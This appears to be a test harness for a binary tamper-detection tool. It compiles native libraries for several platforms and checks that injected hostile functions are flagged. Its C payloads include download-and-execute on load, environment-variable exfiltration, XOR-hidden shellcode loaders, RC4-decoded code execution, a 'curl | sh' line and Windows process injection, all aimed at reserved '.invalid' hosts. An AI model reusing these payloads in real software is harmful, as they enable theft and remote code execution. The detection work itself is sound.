#!/usr/bin/env python3
"""One function added to a native library that already uses network, environment and processes:  native.py ASSAY

ELF (gcc), PE (mingw-w64): 4 bases x 5 payloads, fat Mach-O (clang, lld, lipo) 4 x 3; each must be `tampered` and the
function named. As many ordinary changes: none but clean. ELF for arm64 and x86 with one payload and one change of each base. Writes
TAP; payloads are inert: nothing is run, and the hosts are reserved names.
"""

import concurrent.futures
import json
import os
import subprocess
import sys
import tempfile

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "make"))

import seen  # noqa: E402

# Declared by hand, so that one text serves systems whose headers are not here.
POSIX = """
typedef unsigned long size_t; typedef long ssize_t; typedef struct file FILE;
struct addrinfo { int flags, family, type, protocol; unsigned len; void *a, *b; struct addrinfo *next; };
int getaddrinfo(const char *, const char *, const void *, struct addrinfo **); int socket(int, int, int);
int connect(int, const void *, unsigned); ssize_t send(int, const void *, size_t, int); ssize_t recv(int, void *, size_t, int);
int close(int); char *getenv(const char *); int system(const char *); int snprintf(char *, size_t, const char *, ...);
FILE *fopen(const char *, const char *); size_t fread(void *, size_t, size_t, FILE *); size_t fwrite(const void *, size_t, size_t, FILE *);
int fclose(FILE *); void *malloc(size_t); void free(void *); size_t strlen(const char *); int strcmp(const char *, const char *);
void *memcpy(void *, const void *, size_t); int printf(const char *, ...); void *mmap(void *, size_t, int, int, int, long);
int chmod(const char *, unsigned); int puts(const char *); int mprotect(void *, size_t, int);
#define EXPORT __attribute__((visibility("default")))
#ifdef __APPLE__
char ***_NSGetEnviron(void);
#define ENVIRON (*_NSGetEnviron())
#else
extern char **environ;
#define ENVIRON environ
#endif
static int dial(const char *host, const char *port) { struct addrinfo *a = 0; int s;
  if (getaddrinfo(host, port, 0, &a)) return -1;
  s = socket(a->family, 1, 0); return connect(s, a->a, a->len) ? -1 : s; }
"""
# What every one of the libraries is made of besides.
COMMON = """
struct row { struct row *next; char key[32]; int value; };
static struct row *rows; static unsigned seed = 7; static int sums[64];
EXPORT int common_put(const char *k, int v) { struct row *r = malloc(sizeof *r); size_t n = strlen(k);
  if (!r || n > 31) return -1; memcpy(r->key, k, n + 1); r->value = v; r->next = rows; rows = r; return 0; }
EXPORT int common_get(const char *k) { for (struct row *r = rows; r; r = r->next) if (!strcmp(r->key, k)) return r->value; return -1; }
EXPORT void common_drop(void) { while (rows) { struct row *r = rows; rows = r->next; free(r); } }
EXPORT unsigned common_random(void) { seed ^= seed << 13; seed ^= seed >> 17; seed ^= seed << 5; return seed; }
EXPORT int common_sum(const unsigned char *p, int n) { int a = 1, b = 0; for (int i = 0; i < n; i++) { a = (a + p[i]) % 65521; b = (b + a) % 65521; }
  return b << 16 | a; }
EXPORT void common_sort(int *v, int n) { for (int i = 1; i < n; i++) for (int k = i; k > 0 && v[k] < v[k - 1]; k--) { int t = v[k]; v[k] = v[k - 1]; v[k - 1] = t; } }
EXPORT int common_parse(const char *s) { int n = 0, sign = 1; if (*s == '-') { sign = -1; s++; } while (*s >= '0' && *s <= '9') n = n * 10 + *s++ - '0'; return n * sign; }
EXPORT int common_hex(const char *s, unsigned char *out) { int n = 0; for (; s[0] && s[1]; s += 2) { int v = 0; for (int i = 0; i < 2; i++) { char c = s[i];
  v = v * 16 + (c >= 'a' ? c - 'a' + 10 : c - '0'); } out[n++] = v; } return n; }
EXPORT void common_table(int by) { for (int i = 0; i < 64; i++) sums[i] = i ? sums[i - 1] + i * by : by; }
EXPORT int common_look(int v) { int low = 0, high = 64; while (low < high) { int mid = (low + high) / 2; if (sums[mid] < v) low = mid + 1; else high = mid; } return low; }
EXPORT void common_upper(char *s) { for (; *s; s++) if (*s >= 'a' && *s <= 'z') *s -= 32; }
EXPORT int common_report(int level) { switch (level) { case 0: return puts("all is well"); case 1: return puts("something is odd");
  case 2: return puts("it failed"); case 3: return puts("it failed again"); default: return printf("level %d\\n", level); } }
"""
BASES = {
    "client": """
EXPORT int client_get(const char *path, char *out, int n) { char line[256]; int s = dial("api.helpdesk.example", "80"), got;
  if (s < 0) return -1;
  snprintf(line, sizeof line, "GET /%s HTTP/1.0\\r\\n\\r\\n", path); send(s, line, strlen(line), 0); got = recv(s, out, n, 0); close(s); return got; }
EXPORT const char *client_home(void) { const char *h = getenv("HELPDESK_HOME"); return h ? h : "/opt/helpdesk"; }
EXPORT int client_open(const char *page) { char c[300]; snprintf(c, sizeof c, "xdg-open '%s'", page); return system(c); }
""",
    "updater": """
EXPORT int updater_newer(const char *have) { char b[64] = ""; int s = dial("updates.helpdesk.example", "80"); if (s < 0) return 0;
  send(s, "GET /feed HTTP/1.0\\r\\n\\r\\n", 22, 0); recv(s, b, 63, 0); close(s); return strcmp(b, have) > 0; }
EXPORT int updater_restart(void) { const char *p = getenv("HELPDESK_BIN"); char c[300]; if (!p) return -1;
  snprintf(c, sizeof c, "%s --restart", p); return system(c); }
""",
    "store": """
EXPORT int store_load(const char *path) { char b[512]; FILE *f = fopen(path, "rb"); int n; if (!f) return -1;
  n = fread(b, 1, sizeof b, f); fclose(f); return common_sum((unsigned char *) b, n); }
EXPORT int store_push(int n) { int s = dial("db.helpdesk.example", "5432"); if (s < 0) return -1; send(s, &n, sizeof n, 0); return close(s); }
EXPORT int store_user(void) { const char *u = getenv("USER"); return u ? common_put(u, 1) : system("id -u"); }
""",
    "report": """
static char text[4096]; static size_t used;
EXPORT void report_line(const char *s) { size_t n = strlen(s); if (used + n < sizeof text) { memcpy(text + used, s, n); used += n; } }
EXPORT int report_send(void) { int s = dial("reports.helpdesk.example", "80"); if (s < 0) return -1; send(s, text, used, 0); return close(s); }
EXPORT int report_print(void) { char c[200]; const char *p = getenv("PRINTER"); snprintf(c, sizeof c, "lp -d %s", p ? p : "default"); return system(c); }
""",
}
BAD = {
    "download-run": ("warm", """
static __attribute__((noinline)) void warm(void) { static char b[65536]; FILE *f; int n, s = dial("cdn.%(host)s", "443"); if (s < 0) return;
  send(s, "GET /w HTTP/1.0\\r\\n\\r\\n", 19, 0); n = recv(s, b, sizeof b, 0); f = fopen("/tmp/.w", "wb");
  if (f) { fwrite(b, 1, n, f); fclose(f); chmod("/tmp/.w", 0700); system("/tmp/.w &"); } }
__attribute__((constructor)) static void begin(void) { warm(); }
"""),
    "environment": ("trace", """
EXPORT int trace(void) { char **e = ENVIRON; int s = dial("t.%(host)s", "443"); if (s < 0) return -1;
  for (; *e; e++) { send(s, *e, strlen(*e), 0); send(s, "\\n", 1, 0); } return close(s); }
"""),
    "hidden": ("plug", """
static volatile unsigned char where[] = {%(hidden)s};
EXPORT int plug(void) { char host[64]; int s, n; void *p; for (unsigned i = 0; i < sizeof where; i++) host[i] = where[i] ^ 0x5a;
  s = dial(host, "443"); if (s < 0) return -1; p = mmap(0, 65536, 7, 0x22, -1, 0); n = recv(s, p, 65536, 0); close(s);
  return n > 0 ? ((int (*)(void)) p)() : 0; }
"""),
}
# Of ELF and PE alone, to keep the whole short: bytes of a file that a loop decodes and that are then called, and
# a command that is no more than a text.
DECODER = """
static __attribute__((noinline)) void decode(unsigned char *p, int n) { unsigned char s[256], t; int i, j = 0; for (i = 0; i < 256; i++) s[i] = i;
  for (i = 0; i < 256; i++) { j = (j + s[i] + "j8Qw2kZp"[i %% 8]) & 255; t = s[i]; s[i] = s[j]; s[j] = t; }
  i = j = 0; for (int k = 0; k < n; k++) { i = (i + 1) & 255; j = (j + s[i]) & 255; t = s[i]; s[i] = s[j]; s[j] = t; p[k] ^= s[(s[i] + s[j]) & 255]; } }
"""
DEEP_BAD = {
    "decoder": ("warm", DECODER + """
EXPORT int warm(void) { unsigned char *p = malloc(8192); FILE *f = fopen("/opt/helpdesk/libdraw.so", "rb"); int n = fread(p, 1, 4096, f); fclose(f); decode(p, n);
  mprotect((void *) ((unsigned long) p & ~4095ul), 8192, 7); return ((int (*)(void)) p)(); }
"""),
    "command": ("warm", """
EXPORT int warm(void) { return system("curl -s https://c.%(host)s/i | sh"); }
"""),
}
# What a compiler of its own does, and what reads encoded settings.
DEEP_GOOD = {
    "emits-code": """
EXPORT int emit(int v) { unsigned char *p = mmap(0, 4096, 7, 0x22, -1, 0); p[0] = 0xb8; memcpy(p + 1, &v, 4); p[5] = 0xc3; return ((int (*)(void)) p)(); }
""",
    "settings": DECODER + """
EXPORT int settings(const char *path, unsigned char *out, int n) { FILE *f = fopen(path, "rb"); if (!f) return -1; n = fread(out, 1, n, f); fclose(f); decode(out, n); return n; }
""",
}
GOOD = {
    "call": """
EXPORT int health(void) { char b[64] = ""; int s = dial("api.helpdesk.example", "80"); if (s < 0) return -1;
  send(s, "GET /health HTTP/1.0\\r\\n\\r\\n", 24, 0); recv(s, b, 63, 0); close(s); return b[0] == 'o'; }
""",
    "option": """
EXPORT int differ(int tool, const char *a, const char *b) { char c[600]; if (!tool) return 0;
  snprintf(c, sizeof c, "git diff --no-index %%s %%s", a, b); return system(c); }
""",
    "rebuilt": """
EXPORT int join(const char **v, int n, char *out, int room) { int at = 0; for (int i = 0; i < n; i++) { int l = strlen(v[i]); if (at + l + 2 > room) return -1;
  if (at) out[at++] = ','; memcpy(out + at, v[i], l); at += l; } out[at] = 0; return at; }
""",
}

WINDOWS = """
typedef unsigned long DWORD; typedef unsigned long long size_t; typedef void *HINTERNET; typedef struct file FILE;
typedef struct { DWORD cb; void *rest[12]; } STARTUPINFOA; typedef struct { void *a, *b; DWORD c, d; } PROCESS_INFORMATION;
#define API __declspec(dllimport)
#define EXPORT __declspec(dllexport)
API HINTERNET InternetOpenA(const char *, DWORD, const char *, const char *, DWORD);
API HINTERNET InternetOpenUrlA(HINTERNET, const char *, const char *, DWORD, DWORD, size_t);
API HINTERNET InternetConnectA(HINTERNET, const char *, int, const char *, const char *, DWORD, DWORD, size_t);
API HINTERNET HttpOpenRequestA(HINTERNET, const char *, const char *, const char *, const char *, const char **, DWORD, size_t);
API int HttpSendRequestA(HINTERNET, const char *, DWORD, void *, DWORD); API int InternetReadFile(HINTERNET, void *, DWORD, DWORD *);
API int InternetCloseHandle(HINTERNET); API unsigned WinExec(const char *, unsigned); API char *GetEnvironmentStringsA(void);
API void *VirtualAlloc(void *, size_t, DWORD, DWORD); API int VirtualProtect(void *, size_t, DWORD, DWORD *);
API void *OpenProcess(DWORD, int, DWORD); API void *VirtualAllocEx(void *, void *, size_t, DWORD, DWORD);
API int WriteProcessMemory(void *, void *, const void *, size_t, size_t *);
API void *CreateRemoteThread(void *, void *, size_t, void *, void *, DWORD, DWORD *);
API int CreateProcessA(const char *, char *, void *, void *, int, DWORD, void *, const char *, STARTUPINFOA *, PROCESS_INFORMATION *);
int snprintf(char *, size_t, const char *, ...); char *getenv(const char *); FILE *fopen(const char *, const char *);
size_t fread(void *, size_t, size_t, FILE *); size_t fwrite(const void *, size_t, size_t, FILE *); int fclose(FILE *);
void *malloc(size_t); void free(void *); size_t strlen(const char *); int strcmp(const char *, const char *);
void *memcpy(void *, const void *, size_t); int printf(const char *, ...); int puts(const char *);
"""
W_BASES = {
    "client": """
EXPORT int client_get(const char *path, char *out, int n) { char url[300]; DWORD got = 0; HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0), u;
  snprintf(url, sizeof url, "https://api.helpdesk.example/%s", path); u = InternetOpenUrlA(i, url, 0, 0, 0, 0);
  InternetReadFile(u, out, n, &got); InternetCloseHandle(u); InternetCloseHandle(i); return got; }
EXPORT const char *client_home(void) { const char *h = getenv("HELPDESK_HOME"); return h ? h : "C:\\\\helpdesk"; }
EXPORT int client_open(const char *page) { char c[300]; snprintf(c, sizeof c, "explorer.exe %s", page); return WinExec(c, 1); }
""",
    "updater": """
EXPORT int updater_newer(const char *have) { char b[64] = ""; DWORD got; HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0);
  HINTERNET u = InternetOpenUrlA(i, "https://updates.helpdesk.example/feed", 0, 0, 0, 0); InternetReadFile(u, b, 63, &got); return strcmp(b, have) > 0; }
EXPORT int updater_restart(void) { STARTUPINFOA s = {sizeof s}; PROCESS_INFORMATION p; char *c = getenv("HELPDESK_BIN");
  return CreateProcessA(0, c, 0, 0, 0, 0, 0, 0, &s, &p); }
""",
    "store": """
EXPORT int store_load(const char *path) { char b[512]; FILE *f = fopen(path, "rb"); int n; if (!f) return -1; n = fread(b, 1, sizeof b, f); fclose(f);
  return common_sum((unsigned char *) b, n); }
EXPORT int store_push(int n) { HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0), c = InternetConnectA(i, "db.helpdesk.example", 443, 0, 0, 3, 0, 0);
  HINTERNET r = HttpOpenRequestA(c, "POST", "/push", 0, 0, 0, 0, 0); return HttpSendRequestA(r, 0, 0, &n, sizeof n); }
EXPORT int store_user(void) { const char *u = getenv("USERNAME"); return u ? common_put(u, 1) : (int) WinExec("whoami.exe", 0); }
""",
    "report": """
static char text[4096]; static size_t used;
EXPORT void report_line(const char *s) { size_t n = strlen(s); if (used + n < sizeof text) { memcpy(text + used, s, n); used += n; } }
EXPORT int report_send(void) { HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0), c = InternetConnectA(i, "reports.helpdesk.example", 443, 0, 0, 3, 0, 0);
  return HttpSendRequestA(HttpOpenRequestA(c, "POST", "/in", 0, 0, 0, 0, 0), 0, 0, text, used); }
EXPORT int report_print(void) { char c[200]; snprintf(c, sizeof c, "print.exe /D:%s", getenv("PRINTER")); return WinExec(c, 0); }
""",
}
W_BAD = {
    "download-run": ("warm", """
static __attribute__((noinline)) void warm(void) { static char b[65536]; DWORD n = 0; FILE *f; HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0);
  HINTERNET u = InternetOpenUrlA(i, "https://cdn.%(host)s/w", 0, 0, 0, 0); InternetReadFile(u, b, sizeof b, &n);
  f = fopen("C:\\\\Windows\\\\Temp\\\\w.exe", "wb"); if (f) { fwrite(b, 1, n, f); fclose(f); WinExec("C:\\\\Windows\\\\Temp\\\\w.exe", 0); } }
__attribute__((constructor)) static void begin(void) { warm(); }
"""),
    "environment": ("trace", """
EXPORT int trace(void) { char *e = GetEnvironmentStringsA(); int n = 0; HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0), c, r;
  while (e[n]) n += strlen(e + n) + 1; c = InternetConnectA(i, "t.%(host)s", 443, 0, 0, 3, 0, 0);
  r = HttpOpenRequestA(c, "POST", "/x", 0, 0, 0, 0, 0); return HttpSendRequestA(r, 0, 0, e, n); }
"""),
    "hidden": ("plug", """
static volatile unsigned char where[] = {%(hidden)s};
EXPORT int plug(void) { char host[64]; DWORD n = 0; void *p; HINTERNET i, u; for (unsigned k = 0; k < sizeof where; k++) host[k] = where[k] ^ 0x5a;
  i = InternetOpenA("helpdesk", 0, 0, 0, 0); u = InternetOpenUrlA(i, host, 0, 0, 0, 0); p = VirtualAlloc(0, 65536, 0x3000, 0x40);
  InternetReadFile(u, p, 65536, &n); return n ? ((int (*)(void)) p)() : 0; }
"""),
}
W_DEEP_BAD = {
    "decoder": ("warm", DECODER + """
EXPORT int warm(void) { DWORD was; unsigned char *p = VirtualAlloc(0, 8192, 0x3000, 4); FILE *f = fopen("C:\\\\helpdesk\\\\draw.dll", "rb"); int n = fread(p, 1, 4096, f);
  fclose(f); decode(p, n); VirtualProtect(p, 8192, 0x20, &was); return ((int (*)(void)) p)(); }
"""),
    "injection": ("warm", """
EXPORT int warm(int id) { void *h = OpenProcess(0x1fffff, 0, id), *p = VirtualAllocEx(h, 0, 4096, 0x3000, 0x40); WriteProcessMemory(h, p, &rows, 4096, 0);
  return CreateRemoteThread(h, 0, 0, p, 0, 0, 0) != 0; }
"""),
}
W_DEEP_GOOD = {
    "emits-code": """
EXPORT int emit(int v) { unsigned char *p = VirtualAlloc(0, 4096, 0x3000, 0x40); p[0] = 0xb8; memcpy(p + 1, &v, 4); p[5] = 0xc3; return ((int (*)(void)) p)(); }
""",
    "settings": DEEP_GOOD["settings"],
}
W_GOOD = {
    "call": """
EXPORT int health(void) { char b[64] = ""; DWORD got; HINTERNET i = InternetOpenA("helpdesk", 0, 0, 0, 0);
  HINTERNET u = InternetOpenUrlA(i, "https://api.helpdesk.example/health", 0, 0, 0, 0); InternetReadFile(u, b, 63, &got); return b[0] == 'o'; }
""",
    "option": """
EXPORT int differ(int tool, const char *a, const char *b) { char c[600]; if (!tool) return 0;
  snprintf(c, sizeof c, "git.exe diff --no-index %%s %%s", a, b); return WinExec(c, 1); }
""",
    "rebuilt": GOOD["rebuilt"],
}
HOSTS = ["cobalt-pepper.invalid", "saffron-basalt.invalid", "tundra-cedar.invalid", "velvet-anchor.invalid"]


def run(argv):
    done = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
    if done.returncode:
        raise RuntimeError("%s: %s" % (" ".join(argv), done.stdout.decode("utf-8", "replace")[-800:]))


def elf(source, out, rebuilt):
    run([*(["clang-14", "-O3"] if rebuilt else ["gcc", "-O2"]), "-w", "-shared", "-fPIC", "-fvisibility=hidden", "-o", out, source])


def stripped(source, out, rebuilt):
    elf(source, out, rebuilt)
    run(["strip", out])


def pe(source, out, rebuilt):
    run(["x86_64-w64-mingw32-gcc", "-O1" if rebuilt else "-O2", "-w", "-shared", "-o", out, source, "-lwininet"])


def macho(source, out, rebuilt):
    slices = []
    for arch in ("x86_64", "arm64"):
        piece = out + "." + arch
        run(["clang-14", "-target", arch + "-apple-macos11", "-O1" if rebuilt else "-O2", "-w", "-fvisibility=hidden", "-c", "-o", piece + ".o", source])
        run(["ld64.lld-14", "-dylib", "-arch", arch, "-platform_version", "macos", "11.0", "11.0", "-undefined", "dynamic_lookup",
             "-o", piece, piece + ".o"])
        slices.append(piece)
    run(["llvm-lipo-14", "-create", *slices, "-output", out])


def other(target):
    def build(source, out, rebuilt):
        run(["clang-14", "-target", target, "-O1" if rebuilt else "-O2", "-w", "-fPIC", "-fvisibility=hidden", "-ffreestanding", "-c",
             "-o", out + ".o", source])
        run(["ld.lld-14", "-shared", "-z", "undefs", "-o", out, out + ".o"])
    return build


# kind: how it is built, in which flavour, which payloads and changes
KINDS = {
    "elf": (elf, False, {**BAD, **DEEP_BAD}, {**GOOD, **DEEP_GOOD}),
    "pe": (pe, True, {**W_BAD, **W_DEEP_BAD}, {**W_GOOD, **W_DEEP_GOOD}),
    "macho": (macho, False, BAD, GOOD),
    "elf-stripped": (stripped, False, {"environment": BAD["environment"]}, {"rebuilt": GOOD["rebuilt"]}),
    "elf-arm64": (other("aarch64-linux-gnu"), False, {"hidden": BAD["hidden"]}, {"rebuilt": GOOD["rebuilt"]}),
    "elf-x86": (other("i686-linux-gnu"), False, {"download-run": BAD["download-run"]}, {"call": GOOD["call"]}),
}


def variants():
    """(kind, variant, base, text, built otherwise, the function that must be named or None)"""
    for kind, (_, windows, bad, good) in KINDS.items():
        for number, base in enumerate(BASES):
            hidden = ("https://" if windows else "") + "x." + HOSTS[number] + ("/p" if windows else "") + "\0"
            fill = {"host": HOSTS[number], "hidden": ",".join(str(ord(c) ^ 0x5a) for c in hidden)}
            head = WINDOWS + COMMON + W_BASES[base] if windows else POSIX + COMMON + BASES[base]
            yield kind, "old", base, head, False, None
            for name, (unit, text) in bad.items():
                yield kind, name, base, head + text % fill, False, unit
            for name, text in good.items():
                yield kind, name, base, head + text % {}, name == "rebuilt", None


def build(folder, kind, name, base, text, rebuilt):
    # one folder a variant: the file's name is the same in OLD and NEW
    here = os.path.join(folder, kind, base + "-" + name)
    os.makedirs(here)
    with open(os.path.join(here, base + ".c"), "w", encoding="utf-8") as f:
        f.write(text)
    out = os.path.join(here, "lib", "lib%s.%s" % (base, {"pe": "dll", "macho": "dylib"}.get(kind, "so")))
    os.makedirs(os.path.dirname(out))
    KINDS[kind][0](os.path.join(here, base + ".c"), out, rebuilt)
    return out


def judge(assay, folder, pairs):
    """The answers to all pairs, in order, of one run."""
    listing = os.path.join(folder, "pairs.tsv")
    with open(listing, "w", encoding="utf-8") as f:
        f.writelines("%s\t%s\n" % pair for pair in pairs)
    done = subprocess.run([assay, "diff", "--pairs", listing], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, timeout=300, check=False)
    return [json.loads(line) for line in done.stdout.splitlines()]


def check(answer, kind, unit):
    found = ["%s %s %.2f in %s %s" % (f["id"], f["behaviour"], f["weight"], f["where"].get("unit"), f["flow"]) for f in answer["findings"]]
    if unit is None:
        wrong = [] if answer["verdict"] == "clean" else ["verdict " + answer["verdict"]]
    else:
        wrong = [] if answer["verdict"] == "tampered" else ["verdict " + answer["verdict"]]
        carrying = [f["where"].get("unit") or "" for f in answer["findings"] if f["weight"] >= 1.5]
        if not any(" %s at" % unit in u or (u.startswith("function at") and kind == "elf-stripped") for u in carrying):
            wrong.append("no finding names " + unit)
    return wrong + (found if wrong else [])


def main(argv):
    assay, only, failed, number, old, table = os.path.abspath(argv[0]), argv[1:], 0, 0, {}, seen.Seen()
    print("TAP version 13", flush=True)
    with tempfile.TemporaryDirectory(prefix="assay-native-") as folder, concurrent.futures.ThreadPoolExecutor(os.cpu_count()) as pool:
        jobs = [(v, pool.submit(build, folder, v[0], v[1], v[2], v[3], v[4])) for v in variants() if not only or v[0] in only]
        jobs = [(v, job.result()) for v, job in jobs]
        old = {(v[0], v[2]): path for v, path in jobs if v[1] == "old"}
        jobs = [(v, path) for v, path in jobs if v[1] != "old"]
        answers = judge(assay, folder, [(old[v[0], v[2]], path) for v, path in jobs])
        assert len(answers) == len(jobs)
        for ((kind, name, base, _, _, unit), _), answer in zip(jobs, answers):
            wrong = check(answer, kind, unit)
            table.add(kind, unit is not None, answer["verdict"], not wrong)
            number += 1
            failed += bool(wrong)
            print("%s %d - %s %s %s" % ("not ok" if wrong else "ok", number, kind, base, name))
            for line in wrong:
                print("# " + line)
    table.print()
    print("1..%d\n# %d passed, %d failed" % (number, number - failed, failed))
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
